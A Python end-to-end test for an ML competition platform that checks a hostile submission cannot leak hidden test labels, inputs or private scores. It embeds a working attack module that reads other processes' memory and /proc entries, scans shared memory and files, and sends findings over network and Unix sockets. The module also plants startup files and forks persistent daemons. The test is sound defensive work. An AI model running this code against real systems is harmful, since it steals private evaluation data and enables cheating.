"""Programs of a participant try to carry labels, hidden inputs and private scores to where the participant reads."""

from __future__ import annotations

import asyncio
import contextlib
import json
import secrets
import socket
import struct
import threading
from collections.abc import Mapping
from pathlib import Path

import pytest

from cli.app import App
from nsml.client.connect import open_channel
from nsml.client.contexts import Context
from tests.e2e.platforms import LEVELS, end_all, platform_of, user_of
from tests.e2e.programs import wait_for, write_program
from tests.support.every_answer import Things, every_answer
from tests.support.in_process import Platform

PRIVATE_SCORE = 0.7310585786300049
ROWS = 4
COMM = 15
"""So much of a mark is what the name of a process has room for."""
LOADER = """\
def feed_infer(output_file, infer_func):
    with open("/data/marks/test/test_data") as file:
        answer = infer_func(file.read())
    with open(output_file, "w") as file:
        file.write(answer)
"""
EVALUATION = """\
# An owner who runs what a prediction says, as pickle would.
import argparse, json, os, sys
parser = argparse.ArgumentParser()
parser.add_argument("--prediction")
parser.add_argument("--test_label_path")
config = parser.parse_args()
with open(config.prediction) as file:
    told = [json.loads(line) for line in file]
with open(config.test_label_path) as file:
    labels = [line.split() for line in file]
print("variables", sorted(os.environ), sys.path)
if "private" in config.test_label_path:
    print("found", json.dumps(told[0]["found"]))
else:
    space = {"__name__": "attack"}
    exec(told[0]["code"], space)
    found = space["look"]()
    space["leak"](" ".join(mark for mark, _ in labels), space["PORT"])
    print("beside", json.dumps(found))
print(sum(float(value) for _, value in labels) / len(labels))
"""
ATTACK = '''\
import atexit, base64, ctypes, fcntl, json, mmap, os, pathlib, re, signal, socket, subprocess, sys, threading, time

PORT = 0  # of a listener outside
HOST = ""  # the folder of the platform
MARK = re.compile(rb"(?:input|label)-[0-9a-f]{9,16}")  # the name of a process has room for 15 characters
NAME = "nsml-theft"
SKIPPED = ("/proc", "/sys", "/dev/pts", "/usr", "/lib", "/lib64", "/opt", "/bin", "/sbin", "/etc")
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
FOLDERS = (
    "/tmp", "/var/tmp", "/dev/shm", "/app", "/data", "/data/marks", "/data/marks/test", "/nsml", "/.nsml", "/sdk",
    "/run", "/dev/mqueue",
    "/mnt", "/root", "/home", "/etc", "/srv", "/", "/usr/lib", "/opt", sys.prefix, os.path.dirname(json.__file__),
    os.path.expanduser("~/.cache"), os.path.expanduser("~"), "/proc/1/cwd", "/proc/1/root/tmp",
    HOST, HOST + "/data", HOST + "/data/agent", "/sys/fs/cgroup",
)


def read(path):
    try:
        if not os.path.isfile(path):  # a pipe would block
            return b""
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return b""


def look():
    """Every mark in what can be read, and where."""
    found = {}
    for top in ("/", HOST):
        for folder, names, files in os.walk(top):
            names[:] = [one for one in names if os.path.join(folder, one) not in SKIPPED and one != "site-packages"
                        and not os.path.join(folder, one).startswith(sys.base_prefix)]
            for name in files:
                path = os.path.join(folder, name)
                for mark in MARK.findall(path.encode(errors="replace") + read(path)):
                    found.setdefault(mark.decode(), path)
    own = {str(os.getpid()), str(os.getppid())}
    for pid in [one for one in os.listdir("/proc") if one.isdigit() and one not in own]:
        for name in ("environ", "cmdline", "comm", "maps", "stack"):
            for mark in MARK.findall(read(f"/proc/{pid}/{name}")):
                found.setdefault(mark.decode(), f"/proc/{pid}/{name}")
        for name in ("root/data/marks/test/test_label", "root/data/prediction/prediction", "cwd/test/test_label"):
            for mark in MARK.findall(read(f"/proc/{pid}/{name}")):
                found.setdefault(mark.decode(), f"/proc/{pid}/{name}")
        try:
            for number in os.listdir(f"/proc/{pid}/fd"):
                for mark in MARK.findall(read(f"/proc/{pid}/fd/{number}")):
                    found.setdefault(mark.decode(), f"/proc/{pid}/fd/{number}")
        except OSError:
            pass
    for pid in ["1", *(one for one in os.listdir("/proc") if one.isdigit() and one not in own)]:
        for mark in MARK.findall(memory_of(int(pid))):
            found.setdefault(mark.decode(), f"memory of {pid}")
    for where, data in (("System V memory", shared()), ("message queue", queued())):
        for mark in MARK.findall(data):
            found.setdefault(mark.decode(), where)
    return found


def memory_of(pid):
    """By its file and by the call that debuggers use, attached to it if that is allowed."""
    libc.ptrace(0x4206, pid, None, None)  # PTRACE_SEIZE: it goes on
    found = b""
    for line in read(f"/proc/{pid}/maps").decode(errors="replace").splitlines():
        begin, end = (int(one, 16) for one in line.split()[0].split("-"))
        if "w" not in line.split()[1] or end - begin > 1 << 24:
            continue
        try:
            with open(f"/proc/{pid}/mem", "rb", 0) as file:
                file.seek(begin)
                found += file.read(end - begin) or b""
        except (OSError, ValueError):
            pass
        data = ctypes.create_string_buffer(end - begin)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(data), end - begin)
        remote = (ctypes.c_void_p * 2)(begin, end - begin)
        if libc.process_vm_readv(pid, local, 1, remote, 1, 0) > 0:
            found += data.raw
    return found


def shared(write=b""):
    number = libc.shmget(0x6E736D6C, 4096, 0o1666 if write else 0)
    at = libc.shmat(number, None, 0) if number >= 0 else None
    if at in (None, ctypes.c_void_p(-1).value):
        return b""
    if write:
        ctypes.memmove(at, write[:4096], len(write[:4096]))
    return ctypes.string_at(at, 4096)


def queued(write=b""):
    try:
        librt = ctypes.CDLL("librt.so.1")
        number = librt.mq_open(b"/nsml-theft", os.O_RDWR | os.O_CREAT | os.O_NONBLOCK, 0o666, None)
        if write:
            librt.mq_send(number, write[:4000], len(write[:4000]), 0)
        data = ctypes.create_string_buffer(8192)
        size = -1 if write else librt.mq_receive(number, data, 8192, None)
        return data.raw[: max(size, 0)]
    except (OSError, AttributeError):
        return b""


def attempt(action, *arguments, **more):
    try:
        return action(*arguments, **more)
    except BaseException:
        return None


def reached(port):
    """The networks that are there, by an address or an interface; a listener outside has that port."""
    found = []
    for place in (("127.0.0.1", port), ("192.0.2.1", 53), ("1.1.1.1", 53)):
        try:
            socket.create_connection(place, 0.5).close()
            found.append(place[0])
        except OSError:
            pass
    return found + [name for _, name in socket.if_nameindex() if name != "lo"]


def send(data, port):
    """Over every network."""
    names = ["127.0.0.1", "::1", socket.gethostname(), "localhost", "169.254.169.254", "192.0.2.1"]
    for name in names:
        attempt(lambda: socket.create_connection((name, port), 0.2).sendall(data))
        attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data[:1000], (name, port)))
    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(data[:1000], ("127.0.0.1", 0)))
    for path in ("\\0" + NAME, "/tmp/" + NAME + ".sock", "/dev/shm/" + NAME + ".sock"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            def tell():
                one = socket.socket(socket.AF_UNIX, kind)
                one.connect(path)
                one.sendall(data)
            attempt(tell)
    for folder, _, files in os.walk("/nsml"):
        for name in files:
            if name.endswith(".sock") or name == "agent":
                def ask():
                    one = socket.socket(socket.AF_UNIX)
                    one.connect(os.path.join(folder, name))
                    one.sendall(data)
                attempt(ask)


def write(data):
    for folder in FOLDERS:
        for name in (NAME, "." + NAME, "usercustomize.py", NAME + ".pth"):
            attempt(lambda: pathlib.Path(folder, name).write_bytes(data))
            attempt(os.chmod, os.path.join(folder, name), 0o666)
    for number in range(3, 64):
        attempt(os.write, number, data)
    attempt(shared, data)
    attempt(queued, data)
    attempt(pathlib.Path("/proc/self/comm").write_bytes, data[:15])


def report(text):
    import nsml
    session = nsml.bind.__self__
    attempt(setattr, session, "_stage", "")  # which keeps it from recording
    if "NSML_STAGE" in os.environ:  # without it, a program is one that trains
        code = "import attack, sys; attack.report(sys.argv[1])"
        env = {name: value for name, value in os.environ.items() if name != "NSML_STAGE"}
        attempt(subprocess.run, [sys.executable, "-c", code, text], env=env, cwd="/app", timeout=20)
    for action in (
        lambda: nsml.report(step=1, loss=1.0, **{text[:60]: 1.0}),
        lambda: nsml.report(step=2, summary=True, told=text),
        lambda: nsml.text("told", text),
        lambda: nsml.artifact("theft", "/tmp/" + NAME),
        lambda: session.keep_file("nsml.cache/theft", "/tmp/" + NAME),
        lambda: nsml.save("theft", save_fn=lambda folder: pathlib.Path(folder, "told").write_text(text)),
        lambda: nsml.save(text[:40], save_fn=lambda folder: pathlib.Path(folder, "told").write_text(text)),
    ):
        attempt(action)


def leak(text, port):
    data = text.encode()
    print(text, flush=True)
    print(text, file=sys.stderr, flush=True)
    write(data)
    send(data, port)
    report(text)
    os.environ["THEFT"] = text
    attempt(subprocess.run, ["/bin/sh", "-c", "ulimit -c unlimited; kill -SEGV $$", text])
    atexit.register(write, data)
    threading.Thread(target=lambda: [time.sleep(0.2) or write(data) for _ in range(600)], daemon=True).start()
    for sets in (False, True):
        if os.fork():
            continue
        for one in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(one, signal.SIG_IGN)
        if sets:
            os.setsid()
            if os.fork():
                os._exit(0)
        until = time.monotonic() + 120
        while time.monotonic() < until:
            write(data)
            send(data, port)
            time.sleep(1)
        os._exit(0)


class Last:
    def __init__(self, text):
        self.text = text

    def __del__(self):
        attempt(write, self.text.encode())
        attempt(print, self.text, flush=True)
'''
PROGRAM = """\
import argparse, json, os, pathlib, socket, subprocess, sys, threading, time
import attack
import nsml

parser = argparse.ArgumentParser()
parser.add_argument("--mode", default="train")
parser.add_argument("--pause", type=int, default=0)
parser.add_argument("--spy", action="store_true")
parser.add_argument("--whose")
config = parser.parse_args()
SOURCE = pathlib.Path(attack.__file__).read_text()
first = attack.look() if config.mode == "test" else {}
held = []


def save(folder):
    pathlib.Path(folder, "weight").write_text("1")


def load(folder):
    pass


def infer(data):
    found = {**first, **attack.look()}
    found = {mark: path for mark, path in found.items() if mark not in data}
    found.update((name, "network") for name in attack.reached(attack.PORT))
    held.append(attack.Last(data))
    attack.leak(data, attack.PORT)
    row = json.dumps({"found": found, "code": SOURCE})
    return "".join(row + "\\n" for _ in data.splitlines())


def spy():
    told = {}

    def listen(path, kind):
        server = socket.socket(socket.AF_UNIX, kind)
        server.bind(path)
        if kind == socket.SOCK_STREAM:
            server.listen()
        while True:
            data = (server.accept()[0] if kind == socket.SOCK_STREAM else server).recv(4096)
            for mark in attack.MARK.findall(data):
                told[mark.decode()] = path
    for number, path in enumerate(("\\0" + attack.NAME, "/dev/shm/" + attack.NAME + ".sock")):
        kind = (socket.SOCK_STREAM, socket.SOCK_DGRAM)[number]
        threading.Thread(target=listen, args=(path, kind), daemon=True).start()
    control = "input-" + 16 * "0"
    pathlib.Path("/tmp/control").write_text(control)
    attack.shared(b"label-" + 16 * b"0")
    hold = "import time; kept = 'input-' + 16 * chr(49); time.sleep(3600)"  # in its memory alone
    subprocess.Popen([sys.executable, "-c", hold])
    number = 0
    while True:
        told.update(attack.look())
        try:
            folder, _ = nsml.bind.__self__.fetch_artifact("nsml.cache/theft")
            for one in pathlib.Path(folder).rglob("*"):
                told.update((mark.decode(), "nsml.cache") for mark in attack.MARK.findall(attack.read(str(one))))
        except Exception as error:
            told["fetch"] = type(error).__name__
        number += 1
        print("looked", number, json.dumps(told), flush=True)
        time.sleep(0.3)


nsml.bind(save=save, load=load, infer=infer)
if config.pause:
    nsml.paused(scope=locals())
if config.spy:
    spy()
nsml.save("best")
print("trained", json.dumps({"found": attack.look(), "reached": attack.reached(attack.PORT)}))
"""


class Outside:
    """Listens on a port of the machine, over TCP and UDP, and keeps what arrives."""

    def __init__(self) -> None:
        self._tcp = socket.create_server(("", 0))
        self.port: int = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("", self.port))
        self.heard: list[bytes] = []
        for listen in (self._streams, self._packets):
            threading.Thread(target=listen, daemon=True).start()

    def _streams(self) -> None:
        while True:
            connection, _ = self._tcp.accept()
            connection.settimeout(1)
            heard = b"connected "
            with connection, contextlib.suppress(OSError):
                heard += connection.recv(4096)
            self.heard.append(heard)

    def _packets(self) -> None:
        while True:
            self.heard.append(self._udp.recv(4096))


async def _answers(context: Context, things: Things) -> dict[str, list[bytes]]:
    channel = open_channel(context)
    try:
        metadata = [("authorization", f"Bearer {context.token()}")]
        return await every_answer(channel, metadata, things)
    finally:
        await channel.close(None)


def _context(platform: Platform, user: Mapping[str, str]) -> Context:
    return App(environ={**platform.environment, **user}).context


def _platform(level: str) -> Platform:
    """Where sessions run in containers, all but those of submissions have the network of the machine: the widest."""
    made = platform_of(level)
    if level == "containers":
        made.environment["NSML_AGENT_CONTAINER_NETWORK"] = "host"
    return made


@pytest.mark.long("a platform, four sessions, and every rpc about them")
@pytest.mark.parametrize("level", LEVELS)
def test_nothing_hidden_reaches_the_participant(level: str, tmp_path: Path) -> None:
    inputs = [f"input-{secrets.token_hex(8)}" for _ in range(ROWS)]
    labels = [f"label-{secrets.token_hex(8)}" for _ in range(ROWS)]
    values = [0.25, 0.75, PRIVATE_SCORE, PRIVATE_SCORE]
    outside = Outside()
    with _platform(level) as platform:
        lee = user_of(platform, "lee", tmp_path)
        (data := tmp_path / "marks" / "test").mkdir(parents=True)
        (data / "test_data").write_text("".join(f"{one}\n" for one in inputs))
        rows = zip(labels, values, strict=True)
        (data / "test_label").write_text("".join(f"{one} {value}\n" for one, value in rows))
        (data / "public_rows").write_text("0\n1\n")
        (data.parent / "data_loader.py").write_text(LOADER)
        evaluation = tmp_path / "evaluation.py"
        evaluation.write_text(EVALUATION)
        platform.nsml("dataset", "push", "-l", "-e", str(evaluation), "marks", str(data.parent))
        platform.nsml("dataset", "share", "-y", "marks", "--public")
        owner = platform.json("dataset", "info", "marks")["owner"]

        code = write_program(tmp_path / "code", PROGRAM)
        attack = ATTACK.replace("PORT = 0", f"PORT = {outside.port}", 1)
        attack = attack.replace('HOST = ""', f'HOST = "{platform.folder}"', 1)
        (code / "attack.py").write_text(attack)
        # Of the participant's own, for what looks for them: none of them is the platform's.
        for name in ("data_loader.py", "evaluation.py", "sitecustomize.py", "json.pth"):
            (code / name).write_text("import os; os.environ['THEFT'] = '1'\n")
        little = ("-g", "0", "-c", "0.5", "--memory", "200M")
        run = ("run", *little, "-d", f"{owner}/marks", "-o", "name")
        spy = platform.nsml(*run, "-a", "--spy", cwd=code, environment=lee).stdout.split()[0]
        trained = platform.nsml(
            *run,
            "--wait",
            "-a",
            f"--whose {labels[0][-8:]}",
            cwd=code,
            environment=lee,
            timeout_s=120,
        )
        trained_name = trained.stdout.split()[0]
        wrote = platform.nsml("logs", trained_name, environment=lee).stdout
        reached = json.loads(wrote.rpartition("trained ")[2])["reached"]
        if "127.0.0.1" in reached:
            wait_for(lambda: outside.heard, what="the listener has it")
            outside.heard.clear()
        assert "127.0.0.1" in reached or level == "processes", "the search finds a network"

        def looks() -> list[dict[str, str]]:
            whole = platform.nsml("logs", spy, environment=lee).stdout.rpartition("\n")[0]
            lines = [line.split(" ", 2) for line in whole.splitlines()]
            return [json.loads(line[2]) for line in lines if line[0] == "looked"]

        wait_for(looks, what="the spy looks")
        words = ("submit", trained_name)
        submitted = platform.nsml(*words, environment=lee, check=False, timeout_s=120)
        before = len(looks())
        wait_for(lambda: len(looks()) > before + 1, what="the spy looks at what was left")
        assert submitted.stdout == "Score: 0.5\nRank: 1\n", submitted.stderr
        mine = f"--whose {labels[0][-8:]} --mode test".encode()
        assert mine not in _command_lines(), "what a step started is gone with it"

        # Both programs did what they could, and in their sandboxes found what is theirs alone.
        listed = json.loads(platform.nsml("submission", "ls", "-j", environment=lee).stdout)
        [submission] = listed["items"]
        theirs = platform.json("submission", "info", submission["id"])
        assert theirs["private_score"] == PRIVATE_SCORE
        predict, evaluate = (one["session"] for one in theirs["steps"])
        said = platform.nsml("logs", evaluate).stdout
        told = dict(line.split(" ", 1) for line in said.splitlines() if " " in line)
        assert "THEFT" not in told["variables"]
        assert "/app/lee" not in told["variables"]
        assert json.loads(told["found"]) == {}
        beside = json.loads(told["beside"])
        assert set(labels) <= set(beside), "the search finds what is there"
        places = {path.removeprefix("/var").split("/")[1] for path in beside.values()}
        assert places <= {"data", "tmp"}
        assert all(one in said for one in labels[:2])

        steps = [predict, evaluate, trained_name, spy]
        every = {
            "what left over the network": outside.heard,
            "what nsml submit said": [submitted.stdout.encode(), submitted.stderr.encode()],
        }
        pulled = tmp_path / "pulled"
        for asked in (
            *(("logs", one) for one in steps),
            ("artifact", "ls", predict, "-j"),
            ("dataset", "pull", f"{owner}/marks", str(pulled)),
            ("board", "export", f"{owner}/marks"),
            ("download", predict, "theft", str(tmp_path / "theft")),
        ):
            done = platform.nsml(*asked, environment=lee, check=False)
            every[" ".join(asked)] = [done.stdout.encode(), done.stderr.encode()]
        every["dataset pull"] = [one.read_bytes() for one in pulled.rglob("*") if one.is_file()]
        assert every["dataset pull"]
        things = {
            **dict.fromkeys(("session", "sessions", "log"), steps),
            "id": [submission["id"]],
            "board": [f"{owner}/marks"],
            "name": [f"{owner}/marks", "theft"],
            "pattern": ["."],
        }
        every |= asyncio.run(_answers(_context(platform, lee), things))
        marks = [one.encode()[:COMM] for one in (*inputs, *labels, str(PRIVATE_SCORE))]
        marks.append(struct.pack("<d", PRIVATE_SCORE))
        for where, found in every.items():
            for mark in marks:
                assert not any(mark in one for one in found), (where, mark)
        last = looks()[-1]
        found = [f"input-{16 * '0'}", f"input-{16 * '1'}", f"label-{16 * '0'}"]
        assert sorted(last) == ["fetch", *found], "the search finds what is there"
        assert outside.heard == []
        end_all(platform, level)


def _command_lines() -> bytes:
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            found.append(path.read_bytes().replace(b"\0", b" "))
    return b"\n".join(found)
